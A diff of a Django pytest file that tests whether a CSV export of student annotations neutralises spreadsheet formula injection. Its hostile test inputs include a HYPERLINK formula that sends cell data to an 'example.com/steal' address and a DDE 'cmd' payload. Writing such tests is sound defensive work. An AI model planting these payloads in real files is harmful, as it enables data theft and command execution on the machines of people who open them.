@@ -8,58 +8,39 @@ apostrophe, and removing that one apostrophe must give back exactly what was sto
 import csv
 import io
 import re
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 from django.core.management import call_command
 from django.http import StreamingHttpResponse
 from django.utils import timezone
 
-from annotations.models import Assignment, Classroom, Highlight, Membership
-from tests.conftest import make_user
+from annotations.models import Classroom, Highlight, Membership
+from tests.helpers import make_user
 
 URL = "/export/annotations.csv"
 BOM = b"\xef\xbb\xbf"
-# The 27 columns of docs/EXPORT.md, in their documented order.
-DOCUMENTED_COLUMNS = [
-    "highlight_id",
-    "created",
-    "updated",
-    "author_username",
-    "author_name",
-    "class",
-    "assignment_id",
-    "assignment",
-    "document_slug",
-    "document_title",
-    "document_revision",
-    "paragraph",
-    "start",
-    "end",
-    "quote",
-    "prefix",
-    "suffix",
-    "note",
-    "tags",
-    "glossary_entries",
-    "glossary_entry_ids",
-    "glossary_entry_kinds",
-    "glossary_wikidata_ids",
-    "visibility",
-    "hidden",
-    "anchor_status",
-    "url",
-]
+EXPORT_DOC = Path(__file__).resolve().parent.parent / "docs" / "EXPORT.md"
+
+
+def documented_columns() -> list[str]:
+    """The columns of the CSV in docs/EXPORT.md's table (`| 1 | `highlight_id` | ...`),
+    in their documented order."""
+    section = EXPORT_DOC.read_text().split("## The CSV", 1)[1].split("\n## ", 1)[0]
+    rows = re.findall(r"^\| (\d+) \| `(\w+)` \|", section, re.M)
+    assert [int(number) for number, _ in rows] == list(range(1, len(rows) + 1)), rows
+    return [column for _, column in rows]
+
+
+DOCUMENTED_COLUMNS = documented_columns()
 LIVE = ("=", "+", "-", "@", "\t", "\r")
 ISO_UTC = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z")
 
+# A cell that starts with one of these is a formula to a spreadsheet.
+FORMULAS = ["=SUM(A1)", "+1", "-2", "@cmd", "\t=x", "\r=x"]
 HOSTILE_NOTES = [
-    "=SUM(A1)",
-    "+1",
-    "-2",
-    "@cmd",
-    "\t=x",
-    "\r=x",
+    *FORMULAS,
     '=HYPERLINK("http://example.com/steal?d="&A1,"Click")',
     "-2+3+cmd|' /C calc'!A0",
     "commas, commas, and more commas,",
@@ -73,12 +54,7 @@ HOSTILE_NOTES = [
     "",
 ]
 HOSTILE_TAGS = [
-    "=SUM(A1)",
-    "+1",
-    "-2",
-    "@cmd",
-    "\t=x",
-    "\r=x",
+    *FORMULAS,
     "a, comma",
     'say "hi"',
     "line\nbreak",
@@ -170,15 +146,12 @@ def mallory(db):
 
 
 @pytest.fixture
-def hostile_highlights(documents, glossary, mallory, make_highlight):
+def hostile_highlights(documents, glossary, mallory, make_highlight, make_assignment):
     classroom = Classroom.objects.create(name="+Class =1")
     Membership.objects.create(classroom=classroom, user=mallory, role=Membership.Role.STUDENT)
-    assignment = Assignment.objects.create(
-        classroom=classroom,
-        title="-Assignment @once",
-        due=timezone.now() + timedelta(days=3),
+    assignment = make_assignment(
+        classroom, title="-Assignment @once", days=3, documents=documents.values()
     )
-    assignment.documents.set(documents.values())
     highlights = []
     for number, note in enumerate(HOSTILE_NOTES):
         slug, phrase = PASSAGES[number % len(PASSAGES)]
@@ -439,10 +412,10 @@ def test_it_links_each_row_to_the_highlight_in_the_reading_view(
         assert url.endswith(f"/documents/{highlight.document.slug}/#h-{highlight.pk}")
 
 
-def test_it_writes_the_flags_and_the_assignment(client, teacher, student, classroom, documents):
-    assignment = Assignment.objects.create(
-        classroom=classroom, title="Who started it?", due=timezone.now() + timedelta(days=3)
-    )
+def test_it_writes_the_flags_and_the_assignment(
+    client, teacher, student, classroom, documents, make_assignment
+):
+    assignment = make_assignment(classroom, title="Who started it?", days=3)
     document = documents["stalin-and-korean-war"]
     start = document.text.index("Stalin was hardly surprised.")
     highlight = Highlight.objects.create(
@@ -494,13 +467,11 @@ def test_it_writes_only_the_header_when_there_is_nothing(client, student, docume
 
 
 @pytest.fixture
-def filtered(teacher, student, classroom, glossary, make_highlight):
-    assignment = Assignment.objects.create(
-        classroom=classroom, title="Sources", due=timezone.now() + timedelta(days=3)
+def filtered(teacher, student, classroom, glossary, make_highlight, make_assignment):
+    assignment = make_assignment(classroom, title="Sources", days=3)
+    highlight = make_highlight(
+        student, "Stalin was hardly surprised.", tags=["Cold War"], assignment=assignment
     )
-    highlight = make_highlight(student, "Stalin was hardly surprised.", tags=["Cold War"])
-    highlight.assignment = assignment
-    highlight.save()
     highlight.glossary_entries.set([glossary["kim-il-sung"]])
     return {"classroom": classroom, "assignment": assignment}
 
